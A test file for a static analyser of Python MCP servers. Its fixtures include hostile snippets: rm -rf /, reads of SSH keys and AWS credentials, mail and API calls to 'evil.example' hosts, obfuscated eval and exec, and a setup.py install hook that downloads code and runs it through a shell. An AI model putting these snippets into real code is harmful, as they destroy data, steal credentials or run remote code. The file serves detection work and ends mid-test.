import { beforeAll, expect, it } from 'vitest';
import { analyzeCode } from '../../src/analysis/analyze.js';
import { extractPythonFacts } from '../../src/analysis/python/extract.js';
import { loadPythonParser, type PythonParser } from '../../src/analysis/python/parse.js';
import { describeServer } from '../../src/analysis/server.js';
import { tree } from '../helpers/tree.js';

let parser: PythonParser;
beforeAll(async () => {
  parser = await loadPythonParser();
});

const manifest = {
  server: { type: 'python', entry_point: 'server/main.py', mcp_config: { command: 'python', args: ['${__dirname}/server/main.py'], env: { PYTHONPATH: '${__dirname}/server/lib' } } },
};

it('canonicalises Python callees through imports and aliases, with keyword arguments as an options fact at position 1', () => {
  const facts = extractPythonFacts(
    'import subprocess as sp\nfrom os import system as run\nimport os.path\nsp.run(cmd, shell=True, cwd=base)\nrun("ls")\nos.path.join("a", "b")\neval("1")\nopen(p, "w")\n',
    parser,
  );
  expect(facts.calls.map((call) => call.callee)).toEqual(['subprocess.run', 'os.system', 'os.path.join', 'builtins.eval', 'builtins.open']);
  expect(facts.calls[0]!.args[1]).toMatchObject({ properties: { shell: true }, propertyLabels: { cwd: [] } });
  expect(facts.calls[1]!.args[0]).toMatchObject({ literal: 'ls' });
  expect(facts.imports.map((ref) => ref.specifier)).toEqual(['subprocess', 'os', 'os.system', 'os.path']);
});

it('reads FastMCP tools with their docstrings and names, and low-level list_tools/call_tool dispatch', () => {
  const facts = extractPythonFacts(
    [
      '@mcp.tool()',
      'def read_note(path: str):',
      '    """Read a note.',
      '',
      '    Second line."""',
      '    return path',
      '@app.tool(name="other", description="Given.")',
      'async def f(x): pass',
      '@server.list_tools()',
      'async def lt():',
      '    return [Tool(name="low", description="Low level.", inputSchema={})]',
      '@server.call_tool()',
      'async def ct(name, arguments):',
      '    if name == "low":',
      '        os.system(arguments["cmd"])',
      '',
    ].join('\n'),
    parser,
  );
  expect(facts.tools.map(({ name, description, style }) => ({ name, description, style }))).toEqual([
    { name: 'read_note', description: 'Read a note.\n\nSecond line.', style: 'tool' },
    { name: 'other', description: 'Given.', style: 'tool' },
    { name: 'low', description: 'Low level.', style: 'dispatch' },
  ]);
  const low = facts.tools[2]!;
  expect(low.handlerOwner).toBeDefined();
  expect(facts.calls.find((call) => call.callee === 'os.system')?.within).toBe(low.handler);
});

it('reads a call_tool handler that dispatches with match/case, one branch per tool or group of tools', () => {
  const facts = extractPythonFacts(
    [
      'import os, subprocess',
      '@server.list_tools()',
      'async def lt():',
      '    return [Tool(name="run", description="."), Tool(name="log", description="."), Tool(name="diff", description="."), Tool(name="other", description=".")]',
      '@server.call_tool()',
      'async def ct(name, arguments):',
      '    match name:',
      '        case "run":',
      '            os.system(arguments["cmd"])',
      '        case "log" | "diff":',
      '            subprocess.run(["git", name])',
      '        case tool if tool == "other":',
      '            os.remove(arguments["path"])',
      '',
    ].join('\n'),
    parser,
  );
  const handler = (tool: string) => facts.tools.find(({ name }) => name === tool)!.handler;
  const within = (callee: string) => facts.calls.find((call) => call.callee === callee)!.within;
  expect(within('os.system')).toBe(handler('run'));
  expect(within('subprocess.run')).toBe(handler('log'));
  expect(handler('diff')).toBe(handler('log'));
  expect(handler('run')).not.toBe(handler('log'));
  // A guarded or binding case names no tool: its calls stay the whole handler's.
  const owner = facts.tools.find(({ name }) => name === 'run')!.handlerOwner;
  expect(handler('other')).toBe(owner);
  expect(within('os.remove')).toBe(owner);
});

it('carries parameters and sources through assignments, f-strings and method calls', () => {
  const facts = extractPythonFacts(
    'import os, base64\ndef handler(cmd, n):\n    full = f"echo {cmd}"\n    key = os.environ.get("API_KEY")\n    home = os.path.expanduser("~/.ssh")\n    os.system(full.strip())\n    os.popen(key + home)\n    exec(base64.b64decode(n))\n',
    parser,
  );
  const [system, popen, exec] = facts.calls.filter((call) => ['os.system', 'os.popen', 'builtins.exec'].includes(call.callee));
  const id = facts.functions[0]!.id;
  expect(system!.args[0]!.labels).toEqual([`${id}#0`]);
  expect(popen!.args[0]!.labels).toEqual(['@env', '@home']);
  // A decoded value carries what it was decoded from, as in JavaScript.
  expect(exec!.args[0]!.labels).toEqual(['@decoded', `${id}#1`]);
});

it('turns hostile Python into findings, not crashes: deep nesting, a syntax error, an unparsable file', () => {
  const deep = `x = ${'('.repeat(50_000)}1${')'.repeat(50_000)}\nos.system(${'['.repeat(5_000)}${']'.repeat(5_000)})\n`;
  expect(() => extractPythonFacts(deep, parser)).not.toThrow();
  expect(extractPythonFacts('def f(:\n    pass\n', parser).parseError).toMatchObject({ line: 1 });
  expect(extractPythonFacts('if x:\n  y = (\n', parser).parseError).not.toBeNull();
});

it('follows package-relative imports and bundled dependencies from the entry, marking server/lib as dependency', () => {
  const files = tree({
    'server/main.py': 'from mcp.server.fastmcp import FastMCP\nfrom .util import run\nimport vendored\nmcp = FastMCP("x")\n@mcp.tool()\ndef go(cmd):\n    """Go."""\n    return run(cmd)\n',
    'server/util.py': 'import vendored\ndef run(c):\n    return vendored.shell(c)\n',
    'server/lib/vendored/__init__.py': 'import subprocess\ndef shell(c):\n    return subprocess.run(c, shell=True)\n',
    'server/unused.py': 'import os\nos.system("rm -rf /")\n',
  });
  const code = analyzeCode(describeServer(manifest, files), files, new Map(), parser);
  expect(code.reachable).toEqual(['server/main.py', 'server/util.py', 'server/lib/vendored/__init__.py']);
  expect(code.tools).toMatchObject([{ name: 'go', description: 'Go.', file: 'server/main.py', line: 5 }]);
  const run = code.calls.find((call) => call.callee === 'subprocess.run');
  expect(run).toMatchObject({ origin: 'dependency', tools: ['go'], taintedBy: ['go'], taintedArgs: [0], triggers: [{ kind: 'tool', name: 'go' }] });
  expect(code.calls.some((call) => call.callee === 'os.system')).toBe(false);
});

it('reads FastMCP and low-level prompts, registrations under a setting, and names computed at run time', () => {
  const facts = extractPythonFacts(
    [
      'import os',
      '@mcp.prompt()',
      'def review(code: str) -> str:',
      '    """Review code."""',
      '    return code',
      'if os.environ.get("ENABLE_SHELL"):',
      '    @mcp.tool()',
      '    def shell(cmd): pass',
      'elif settings.read_only:',
      '    @mcp.tool()',
      '    def peek(): pass',
      'else:',
      '    @mcp.tool()',
      '    def write(): pass',
      'if name == "x":',
      '    @mcp.tool()',
      '    def plain(): pass',
      '@mcp.tool(name=TOOL_NAME)',
      'def computed(): pass',
      '@server.list_prompts()',
      'async def lp():',
      '    return [types.Prompt(name="triage", description="Triage a ticket")]',
      '',
    ].join('\n'),
    parser,
  );
  expect(facts.prompts).toEqual([
    { name: 'review', description: 'Review code.', line: 2, column: 1 },
    { name: 'triage', description: 'Triage a ticket', line: 22, column: 13 },
  ]);
  expect(Object.fromEntries(facts.tools.map((tool) => [tool.name, tool.conditional]))).toEqual({
    shell: 'os.environ.get("ENABLE_SHELL")',
    peek: 'settings.read_only',
    write: '!(os.environ.get("ENABLE_SHELL"))',
    plain: undefined,
  });
  expect(facts.unnamedRegistrations).toEqual([{ kind: 'tool', excerpt: '@mcp.tool(name=TOOL_NAME)', line: 18, column: 1 }]);
});

it('knows pathlib paths built in place, in variables, from annotated parameters and listings, with the path as argument 0', () => {
  const facts = extractPythonFacts(
    [
      'from pathlib import Path',
      'import os',
      'def f(name, folder: Path):',
      '    p = Path("/etc") / name',
      '    p.write_text("x")',
      '    (Path.home() / ".ssh" / "id_rsa").read_text()',
      '    Path.home().joinpath(".aws", "credentials").read_text()',
      '    folder.parent.unlink()',
      '    for child in folder.iterdir():',
      '        child.read_bytes()',
      '    cred = os.path.join(os.path.expanduser("~"), ".aws", "credentials")',
      '    open(cred)',
      '    Path(__file__).resolve().parent.joinpath("data.json").read_text()',
      '',
    ].join('\n'),
    parser,
  );
  const id = facts.functions[0]!.id;
  const call = (callee: string, index = 0) => facts.calls.filter((found) => found.callee === callee)[index]!;
  expect(call('pathlib.Path.write_text').args[0]).toEqual({ labels: [`${id}#0`], prefix: '/etc/', parts: ['/etc'] });
  expect(call('pathlib.Path.read_text').args[0]).toMatchObject({ labels: ['@home'], parts: ['.ssh', 'id_rsa'] });
  expect(call('pathlib.Path.read_text', 1).args[0]).toMatchObject({ labels: ['@home'], parts: ['.aws', 'credentials'] });
  expect(call('pathlib.Path.unlink').args[0]).toEqual({ labels: [`${id}#1`] });
  expect(call('pathlib.Path.read_bytes').args[0]!.labels).toEqual([`${id}#1`]);
  // A variable keeps the strings its value was built from.
  expect(call('builtins.open').args[0]).toMatchObject({ labels: ['@home'], parts: ['~', '.aws', 'credentials'] });
  expect(call('pathlib.Path.read_text', 2).args[0]).toMatchObject({ labels: ['@bundle-dir'], parts: ['data.json'] });
});

it('names the methods of clients held in variables, `with` targets and self attributes, with the constructor arguments as argument 0', () => {
  const facts = extractPythonFacts(
    [
      'import httpx, smtplib, requests',
      'API = "https://api.example.org"',
      'class C:',
      '    def __init__(self):',
      '        self.client = httpx.AsyncClient(base_url=API)',
      '    async def go(self, q):',
      '        await self.client.get(f"/search?q={q}")',
      'def mail(msg):',
      '    with smtplib.SMTP("smtp.example.org", 587) as server:',
      '        server.send_message(msg)',
      '    s = requests.Session()',
      '    s.post(f"{API}/v1/items/{msg}", json=msg)',
      '    s.get(API + "/health")',
      '',
    ].join('\n'),
    parser,
  );
  const byCallee = new Map(facts.calls.map((found) => [found.callee, found]));
  expect(byCallee.get('httpx.AsyncClient.get')!.args[0]).toMatchObject({ properties: { base_url: 'https://api.example.org' } });
  expect(byCallee.get('smtplib.SMTP.send_message')!.args[0]).toMatchObject({ properties: { host: 'smtp.example.org' } });
  // An f-string or a sum over a constant folds into its text, up to the first value not known.
  expect(byCallee.get('requests.Session.post')!.args[1]).toMatchObject({ prefix: 'https://api.example.org/v1/items/' });
  expect(byCallee.get('requests.Session.post')!.args[1]).not.toHaveProperty('literal');
  expect(byCallee.get('requests.Session.get')!.args[1]).toMatchObject({ literal: 'https://api.example.org/health', built: true });
});

it('marks the calls of a function that checks paths as guarded, but not for a bare startswith', () => {
  const facts = extractPythonFacts(
    [
      'import os',
      'def checked(p):',
      '    real = os.path.realpath(p)',
      '    if not real.startswith(ROOT + os.sep):',
      '        raise ValueError()',
      '    open(real)',
      'def bare(p):',
      '    real = os.path.realpath(p)',
      '    if not real.startswith(ROOT):',
      '        raise ValueError()',
      '    open(real)',
      'def helper(p):',
      '    return open(_validate_path(p))',
      'def relative(p):',
      '    if os.path.relpath(p, ROOT).startswith(".."):',
      '        raise ValueError()',
      '    open(p)',
      '',
    ].join('\n'),
    parser,
  );
  const opens = facts.calls.filter((call) => call.callee === 'builtins.open');
  expect(opens.map((call) => call.guarded === true)).toEqual([true, false, true, true]);
  // Written before the check of its function: what it computes may be what is checked next.
  const realpaths = facts.calls.filter((call) => call.callee === 'os.path.realpath');
  expect(realpaths.map((call) => [call.guarded === true, call.checkedAfter === true])).toEqual([[false, true], [false, false]]);
  expect(opens.map((call) => call.checkedAfter === true)).toEqual([false, false, false, false]);
});

it('narrows the whole environment to one variable through reads and package functions, and keeps it through copies and serialisers', () => {
  const facts = extractPythonFacts(
    [
      'import os, json, subprocess',
      'from config import load',
      'def f():',
      '    env = dict(os.environ)',
      '    sink(json.dumps(env))',
      '    sink(env.get("HOME"), env["X"], load(os.environ))',
      '    out = subprocess.check_output(["ls"], env=os.environ.copy())',
      '    sink(out)',
      '    payload = {}',
      '    payload.update(os.environ)',
      '    sink(payload)',
      '',
    ].join('\n'),
    parser,
  );
  const sinks = facts.calls.filter((call) => call.callee === 'local:sink');
  expect(sinks[0]!.args[0]!.labels).toEqual(['@env-all']);
  expect(sinks[1]!.args.map((arg) => arg.labels)).toEqual([['@env'], ['@env'], ['@env']]);
  expect(sinks[2]!.args[0]!.labels).toEqual([]);
  expect(sinks[3]!.args[0]!.labels).toEqual(['@env-all']);
});

it('keeps imported names passed as values, and the key a string is assigned under', () => {
  const facts = extractPythonFacts(
    'import yaml\nfrom yaml import CSafeLoader as L\nyaml.load(s, Loader=yaml.SafeLoader)\nyaml.load(s, L)\nmsg["Bcc"] = "spy@evil.example"\nself.api_url = "https://api.evil.example/v1"\n',
    parser,
  );
  expect(facts.calls[0]!.args[1]).toMatchObject({ references: { Loader: 'yaml.SafeLoader' } });
  expect(facts.calls[1]!.args[1]).toMatchObject({ reference: 'yaml.CSafeLoader' });
  expect(facts.strings.map(({ key, value }) => ({ key, value }))).toEqual([
    { key: 'Bcc', value: 'spy@evil.example' },
    { key: 'api_url', value: 'https://api.evil.example/v1' },
  ]);
});

it('names a module member reached through getattr, and says when its name was assembled', () => {
  const facts = extractPythonFacts('import os\ngetattr(os, "system")("ls")\ngetattr(os, "sys" + "tem")("ls")\ngetattr(__builtins__, "ev" + "al")(x)\ngetattr(obj, "run")()\n', parser);
  const named = facts.calls.filter((call) => call.callee !== 'builtins.getattr').map(({ callee, builtName }) => ({ callee, builtName }));
  expect(named).toEqual([
    { callee: 'os.system', builtName: undefined },
    { callee: 'os.system', builtName: true },
    { callee: 'builtins.eval', builtName: true },
  ]);
});

it('records parameter names and marks keyword arguments, so reachability can match them by name', () => {
  const facts = extractPythonFacts('class C:\n    def run(self, base, verbose=False, *, cmd=""): pass\nC().run("/srv", cmd=x, verbose=True)\n', parser);
  expect(facts.functions[0]).toMatchObject({ name: 'run', params: 3, paramNames: ['base', 'verbose', 'cmd'] });
  expect(facts.calls.find((call) => call.callee === 'member:run')!.args).toEqual([
    { labels: [], literal: '/srv' },
    { labels: [], properties: { verbose: true }, propertyLabels: { cmd: [] }, keywords: true },
  ]);
});

it('labels what is read from Flask\'s request and, in http.server and socketserver handlers, from self as @request', () => {
  const facts = extractPythonFacts(
    [
      'import os, socketserver',
      'from flask import request as req',
      'from http.server import BaseHTTPRequestHandler',
      'def flask_view():',
      '    os.system(req.args.get("cmd"))',
      '    os.system(req.json["cmd"])',
      '    os.system(req.form["cmd"] + req.headers.get("X"))',
      '    data = req.get_data()',
      '    os.system(data)',
      '    handle(req)',
      'class Handler(BaseHTTPRequestHandler):',
      '    def do_POST(self):',
      '        body = self.rfile.read(int(self.headers["Content-Length"]))',
      '        os.system(body)',
      '        os.system(self.path)',
      '        os.system(self.server.command)',
      '    def helper(self):',
      '        return lambda: os.system(self.requestline)',
      'class Raw(socketserver.BaseRequestHandler):',
      '    def handle(self):',
      '        os.system(self.request.recv(1024))',
      'class Plain:',
      '    def do_POST(self):',
      '        os.system(self.path)',
      '',
    ].join('\n'),
    parser,
  );
  const labels = facts.calls.filter((call) => call.callee === 'os.system' || call.callee === 'local:handle').map((call) => call.args[0]!.labels);
  expect(labels).toEqual([['@request'], ['@request'], ['@request'], ['@request'], ['@request'], ['@request'], ['@request'], [], ['@request'], ['@request'], []]);
});

it('makes lambdas functions of their own, and notes callbacks: lambdas, functions of the scope by name, one keyword given a function', () => {
  const facts = extractPythonFacts(
    [
      'import threading, os',
      'def job(): pass',
      'def main(cmd):',
      '    def work(): os.system(cmd)',
      '    handler = 5',
      '    threading.Thread(target=work, daemon=True).start()',
      '    threading.Thread(target=lambda: os.system(cmd)).start()',
      '    threading.Timer(5, job)',
      '    threading.Timer(5, function=job)',
      '    run(handler, undefined_name, job, self.job, lambda x: x)',
      '    pick(key=job, default=work)',
      'def other():',
      '    run(work)',
      'square = lambda n: n * n',
      '',
    ].join('\n'),
    parser,
  );
  const id = (name: string) => facts.functions.find((fn) => fn.name === name)!.id;
  const args = (callee: string, index = 0) => facts.calls.filter((call) => call.callee === callee)[index]!.args;
  expect(args('threading.Thread')[0]).toMatchObject({ keywords: true, callback: 'local:work' });
  const lambda = args('threading.Thread', 1)[0]!.callback!;
  expect(facts.functions.find((fn) => fn.id === lambda)).toMatchObject({ name: null, params: 0, parent: id('main') });
  // A call in a lambda is the lambda's; the enclosing function's parameters still reach it.
  expect(facts.calls.find((call) => call.callee === 'os.system' && call.within === lambda)!.args[0]!.labels).toEqual([`${id('main')}#0`]);
  expect(args('threading.Timer')[1]).toEqual({ labels: [], callback: 'local:job' });
  expect(args('threading.Timer', 1)[1]).toMatchObject({ keywords: true, callback: 'local:job' });
  expect(args('local:run').map((argument) => argument.callback)).toEqual([undefined, undefined, 'local:job', 'local:job', expect.stringMatching(/^\d+$/)]);
  expect(args('local:run').at(-1)).toMatchObject({ function: true });
  // Two keywords given functions: which one is the callback is not said.
  expect(args('local:pick')[0]!.callback).toBeUndefined();
  // `work` is main's, not other's.
  expect(args('local:run', 1)[0]!.callback).toBeUndefined();
  expect(facts.functions.find((fn) => fn.name === 'square')).toMatchObject({ exportedAs: ['square'], params: 1, paramNames: ['n'], parent: null });
});

it('names schedulers\' methods so that the timer catalogue finds them', () => {
  const facts = extractPythonFacts(
    [
      'import sched, time, asyncio, schedule',
      'from apscheduler.schedulers.background import BackgroundScheduler',
      'def job(): pass',
      's = sched.scheduler(time.time, time.sleep)',
      's.enter(10, 1, job)',
      'schedule.every(10).seconds.do(job)',
      'schedule.every().day.at("10:30").do(job)',
      'loop = asyncio.get_event_loop()',
      'loop.call_later(5, job)',
      'asyncio.get_running_loop().call_at(loop.time() + 5, job)',
      'scheduler = BackgroundScheduler()',
      'scheduler.add_job(job, "interval", seconds=10)',
      'other.every(10).seconds.do(job)',
      '',
    ].join('\n'),
    parser,
  );
  const timers = facts.calls.filter((call) => call.args.some((argument) => argument.callback === 'local:job'));
  expect(timers.map((call) => [call.callee, call.args.findIndex((argument) => argument.callback === 'local:job')])).toEqual([
    ['sched.scheduler.enter', 3],
    ['schedule.Job.do', 0],
    ['schedule.Job.do', 0],
    ['asyncio.AbstractEventLoop.call_later', 2],
    ['asyncio.AbstractEventLoop.call_at', 2],
    ['apscheduler.schedulers.background.BackgroundScheduler.add_job', 1],
    ['member:do', 0],
  ]);
});

it('says which functions return only what they confined, and which do not', () => {
  const facts = extractPythonFacts(
    [
      'import os',
      'from pathlib import Path',
      'from urllib.parse import urlparse',
      'def real_sep(root, p):',
      '    real = os.path.realpath(os.path.join(root, p))',
      '    if not real.startswith(root + os.sep):',
      '        raise ValueError("outside")',
      '    return real',
      'def common(root, p):',
      '    real = os.path.abspath(p)',
      '    if os.path.commonpath([real, root]) != root:',
      '        return None',
      '    return real',
      'def pathlib_check(root: Path, p):',
      '    resolved = (root / p).resolve()',
      '    if resolved.is_relative_to(root):',
      '        return resolved',
      '    raise PermissionError()',
      'def in_try(root: Path, p):',
      '    resolved = (root / p).resolve()',
      '    try:',
      '        resolved.relative_to(root)',
      '    except ValueError:',
      '        raise PermissionError()',
      '    return resolved',
      'def relative(root, p):',
      '    rel = os.path.relpath(p, root)',
      '    if rel.startswith("..") or os.path.isabs(rel):',
      '        raise ValueError()',
      '    return p',
      'def host(url):',
      '    parsed = urlparse(url)',
      '    if parsed.hostname not in ALLOWED:',
      '        raise ValueError()',
      '    return url',
      'def bare(root, p):',
      '    real = os.path.realpath(p)',
      '    if not real.startswith(root):',
      '        raise ValueError()',
      '    return real',
      'def warns(root, p):',
      '    real = os.path.realpath(p)',
      '    if not real.startswith(root + os.sep):',
      '        print("outside")',
      '    return real',
      'def early(root, p):',
      '    real = os.path.realpath(p)',
      '    if real in CACHE:',
      '        return real',
      '    if not real.startswith(root + os.sep):',
      '        raise ValueError()',
      '    return real',
      'def host_logged(url):',
      '    parsed = urlparse(url)',
      '    if parsed.hostname not in ALLOWED:',
      '        log(url)',
      '    return url',
      '',
    ].join('\n'),
    parser,
  );
  expect(Object.fromEntries(facts.functions.map((fn) => [fn.name, fn.confines ?? null]))).toEqual({
    real_sep: 'path',
    common: 'path',
    pathlib_check: 'path',
    in_try: 'path',
    relative: 'path',
    host: 'host',
    bare: null,
    warns: null,
    early: null,
    host_logged: null,
  });
});

it('wraps parameters passed to what may be a bundle function, and guards only the calls after the check', () => {
  const facts = extractPythonFacts(
    [
      'import os',
      'from .paths import under',
      'def read(root, p):',
      '    data = open(p).read()',
      '    safe = under(root, p)',
      '    open(safe)',
      '    open(os.path.join(root, p))',
      '    if not p.startswith(root + os.sep):',
      '        raise ValueError()',
      '    open(p, "w")',
      '',
    ].join('\n'),
    parser,
  );
  const id = facts.functions.find((fn) => fn.name === 'read')!.id;
  const opens = facts.calls.filter((call) => call.callee === 'builtins.open');
  expect(opens.map((call) => call.args[0]!.labels)).toEqual([[`${id}#1`], [`${id}#0~5:12:under`, `${id}#1~5:12:under`], [`${id}#0`, `${id}#1`], [`${id}#1`]]);
  expect(opens.map((call) => call.guarded === true)).toEqual([false, false, false, true]);
});

it('reads an import\'s name as the module except where a parameter, an assignment or a lambda binds it again', () => {
  const facts = extractPythonFacts(
    [
      'import os',
      'os.system("a")',
      'def f(os):',
      '    os.system("b")',
      'def g():',
      '    os = Platform()',
      '    os.system("c")',
      'def h():',
      '    import os',
      '    os.system("d")',
      'run = lambda os: os.system("e")',
      '',
    ].join('\n'),
    parser,
  );
  expect(facts.calls.filter((call) => call.callee.endsWith('system')).map((call) => [call.callee, call.args[0]?.literal])).toEqual([
    ['os.system', 'a'],
    ['member:system', 'b'],
    ['member:system', 'c'],
    ['os.system', 'd'],
    ['member:system', 'e'],
  ]);
});

it('reads an import bound again to an object of a known class as that object', () => {
  const facts = extractPythonFacts(
    ['import paramiko', 'from paramiko import client', 'client = paramiko.client.SSHClient()', 'client.exec_command(cmd)', ''].join('\n'),
    parser,
  );
  expect(facts.calls.map((call) => call.callee)).toEqual(['paramiko.client.SSHClient', 'paramiko.client.SSHClient.exec_command']);
});

it("keeps a constant default as one string a parameter may hold, not as its value, and not for a decorated function's parameters", () => {
  const facts = extractPythonFacts(
    [
      'import requests',
      'def pull(url="http://mirror.vendor.dev/feed", n=3):',
      '    return requests.get(url)',
      '@mcp.tool()',
      'def fetch(url: str = "https://docs.vendor.dev/"):',
      '    return requests.get(url)',
    ].join('\n'),
    parser,
  );
  const [helper, tool] = facts.calls.filter((call) => call.callee === 'requests.get');
  expect(helper!.args[0]).toEqual({ labels: [expect.stringMatching(/#0$/)], parts: ['http://mirror.vendor.dev/feed'] });
  // The tool's caller (the model) picks the URL: its default fixes nothing.
  expect(tool!.args[0]).toEqual({ labels: [expect.stringMatching(/#0$/)] });
});

it('takes what a key picks out of a dict, list or tuple of constants as one of them, not as the key', () => {
  const labels = (lines: string[]) => extractPythonFacts(['import subprocess', ...lines].join('\n'), parser).calls.find((call) => call.callee === 'subprocess.run')!.args[0]!.labels;
  expect(labels(['ALLOWED = {"lint": "ruff", "fmt": "black"}', 'def go(which):', '    subprocess.run([ALLOWED[which], "."])'])).toEqual([]);
  expect(labels(['ALLOWED = {"lint": "ruff"}', 'def go(which):', '    program = ALLOWED.get(which, "ruff")', '    subprocess.run(program)'])).toEqual([]);
  // Values that are not constants, and a table a tainted value was stored in, keep the key.
  expect(labels(['TOOLS = {"lint": LINTER}', 'def go(which):', '    subprocess.run(TOOLS[which])'])).toEqual([expect.stringMatching(/#0$/)]);
  expect(labels(['def go(which, extra):', '    tools = {"lint": "ruff"}', '    tools["x"] = extra', '    subprocess.run(tools[which])'])).toEqual(expect.arrayContaining([expect.stringMatching(/#1$/)]));
});

it('records the call an invoker makes of an API it is handed, with the arguments it hands on', () => {
  const calls = extractPythonFacts(
    [
      'import asyncio, os, threading, functools, subprocess',
      'async def f(code, helper):',
      '    loop = asyncio.get_running_loop()',
      '    await loop.run_in_executor(None, exec, code)',
      '    threading.Thread(target=os.system, args=(code,)).start()',
      '    functools.partial(subprocess.run, code, shell=True)()',
      '    await asyncio.to_thread(helper, code)',
    ].join('\n'),
    parser,
  ).calls;
  const at = (line: number) => calls.filter((call) => call.line === line).map((call) => [call.callee, call.args.map((arg) => arg.labels.length)]);
  expect(at(4)).toEqual([['asyncio.AbstractEventLoop.run_in_executor', [0, 0, 0, 1]], ['builtins.exec', [1]]]);
  expect(at(5)).toEqual([['member:start', []], ['threading.Thread', [1]], ['os.system', [1]]]);
  expect(at(6)).toEqual([['functools.partial', [0, 1, 0]], ['subprocess.run', [1, 0]]]);
  // A parameter handed over is no API: reachability follows what it may be as a callback.
  expect(at(7).map(([callee]) => callee)).toEqual(['asyncio.to_thread']);
});

it('decodes the escapes of string and bytes literals: hex, octal, unicode, and leaves raw strings as written', () => {
  const literal = (source: string) => extractPythonFacts(`f(${source})\n`, parser).calls[0]!.args[0]!.literal;
  expect(literal(String.raw`"\x65\x76\141\154"`)).toBe('eval');
  expect(literal(String.raw`b"\x73\x68"`)).toBe('sh');
  expect(literal(String.raw`"\u0065x\U00000065c"`)).toBe('exec');
  expect(literal(String.raw`"C:\\Users"`)).toBe('C:\\Users');
  expect(literal(String.raw`r"\x65"`)).toBe(String.raw`\x65`);
});

it("folds the standard library's decoders over constants, and marks what they give as encoded", () => {
  const argument = (source: string) => extractPythonFacts(`import base64, codecs, zlib, binascii\nf(${source})\n`, parser).calls.find((call) => call.callee === 'local:f')!.args[0]!;
  expect(argument('base64.b64decode("Y2hpbGQ=").decode()')).toMatchObject({ literal: 'child', built: true, encoded: true });
  expect(argument('bytes.fromhex("6f73").decode("ascii")')).toMatchObject({ literal: 'os', encoded: true });
  expect(argument('codecs.decode("riny", "rot_13")')).toMatchObject({ literal: 'eval' });
  expect(argument('b"\\x85\\xa7\\x85\\x83".decode("cp1026")')).toMatchObject({ literal: 'exec' });
  expect(argument('base64.b32decode("ON2WE4DSN5RWK43T").decode()')).toMatchObject({ literal: 'subprocess' });
  expect(argument('zlib.decompress(base64.b64decode("eJwrzkjNyQEABlcCGQ==")).decode()')).toMatchObject({ literal: 'shell' });
  expect(argument('"".join(map(chr, [101, 118, 97, 108]))')).toMatchObject({ literal: 'eval' });
  expect(argument('"".join([chr(0x6f), chr(0o163)])')).toMatchObject({ literal: 'os' });
  expect(argument('bytes([115, 104]).decode()')).toMatchObject({ literal: 'sh' });
  expect(argument('"lave"[::-1]')).toMatchObject({ literal: 'eval', encoded: true });
  // What does not decode folds nothing: a bad padding, a byte the code page does not map, a computed argument.
  expect(argument('base64.b64decode("@@@").decode()').literal).toBeUndefined();
  expect(argument('b"\\xff".decode("cp1026")').literal).toBeUndefined();
  expect(argument('base64.b64decode(blob).decode()').literal).toBeUndefined();
  // A call that decodes nothing is still read as a template.
  expect(argument('"git tag v{0}".format(version)')).toMatchObject({ prefix: 'git tag v' });
});

it('records a returned page with what was written into it unescaped, and nothing for an escaped or constant one', () => {
  const facts = extractPythonFacts(
    [
      'import html',
      'def raw(name):',
      '    return "<p>%s</p>" % name',
      'def escaped_inline(name):',
      '    return "<p>{}</p>".format(html.escape(name))',
      'def escaped_before(name):',
      '    shown = html.escape(name)',
      '    return f"<p>{shown}</p>"',
      'def escaped_then_replaced(name):',
      '    shown = html.escape(name)',
      '    shown = name',
      '    return "<b>" + shown',
      'def constant(name):',
      '    return "<p>hello</p>"',
      'def text(name):',
      '    return "hello " + name',
      '',
    ].join('\n'),
    parser,
  );
  const pages = facts.calls.filter((call) => call.callee === 'return');
  const ids = new Map(facts.functions.map((fn) => [fn.id, fn.name]));
  expect(pages.map((call) => [ids.get(call.within!), call.line, call.args[0]!.labels.length > 0])).toEqual([
    ['raw', 3, true],
    ['escaped_then_replaced', 12, true],
  ]);
});

it('reads the install-time setuptools commands a setup() call replaces, from a dict literal or dict(...), whatever setup is bound to', () => {
  const facts = extractPythonFacts(
    [
      'import setuptools',
      'setuptools.setup(name="a", cmdclass={"install": PostInstall, "upload": Upload, "bdist_wheel": Wheel})',
      'setup(cmdclass=dict(develop=Dev, test=Tests))',
      '# A table held in a variable is not followed; a setup() of another kind takes no cmdclass.',
      'setup(cmdclass=commands)',
      'app.setup(name="x")',
    ].join('\n'),
    parser,
  );
  expect(facts.installCommands).toEqual([
    { command: 'install', handler: 'PostInstall', line: 2, column: 1 },
    { command: 'bdist_wheel', handler: 'Wheel', line: 2, column: 1 },
    { command: 'develop', handler: 'Dev', line: 3, column: 1 },
  ]);
  expect(extractPythonFacts('setup(name="plain", version="1.0")\n', parser).installCommands).toBeUndefined();
});

it("names what a replacing class's run() calls, in functions nested in it too, and nothing for a class elsewhere", () => {
  const facts = extractPythonFacts(
    [
      'import os, subprocess, urllib.request',
      'from setuptools import setup',
      'from setuptools.command.install import install',
      'def wrapper():',
      '    class PostInstall(install):',
      '        def run(self):',
      '            install.run(self)',
      '            def fetch(url):',
      '                return urllib.request.urlopen(url).read()',
      '            subprocess.Popen(["sh", "-c", fetch("https://example.org/x")])',
      '        def helper(self):',
      '            os.system("not in run")',
      '    return PostInstall',
      'setup(name="p", cmdclass={"install": PostInstall, "develop": ImportedElsewhere})',
    ].join('\n'),
    parser,
  );
  expect(facts.installCommands).toEqual([
    { command: 'install', handler: 'PostInstall', line: 14, column: 1, runs: ['setuptools.command.install.install.run', 'urllib.request.urlopen', 'subprocess.Popen'] },
    { command: 'develop', handler: 'ImportedElsewhere', line: 14, column: 1 },
  ]);
});

it("reads the server's own setup.py, which it never imports, for the commands it replaces, and not a vendored package's", () => {
  const files = tree({
    'server/main.py': 'print("hi")\n',
    'setup.py': 'from setuptools import setup\nsetup(name="s", cmdclass={"install": Hook})\n',
    'server/lib/dep/setup.py': 'from setuptools import setup\nsetup(name="d", cmdclass={"install": DepHook})\n',
  });
  const code = analyzeCode(describeServer(manifest, files), files, new Map(), parser);
  expect(code.installCommands).toEqual([{ command: 'install', handler: 'Hook', line: 2, column: 1, file: 'setup.py', origin: 'first-party' }]);
  expect(code.reachable).not.toContain('setup.py');
  expect(code.calls.some((call) => call.file === 'setup.py')).toBe(false);
});

it('joins what the branches of an if leave in a name: any branch may have run, and the value before it when no else does', () => {
  const facts = extractPythonFacts(
    [
      'import subprocess',
      'def first(flag, cmd):',
      '    if flag:',
      '        command = cmd',
      '    else:',
      '        command = "ls"',
      '    subprocess.run(command, shell=True)',
      'def elif_only(flag, cmd):',
      '    command = cmd',
      '    if flag == 1:',
      '        command = "ls"',
      '    elif flag == 2:',
      '        command = "pwd"',
      '    subprocess.run(command, shell=True)',
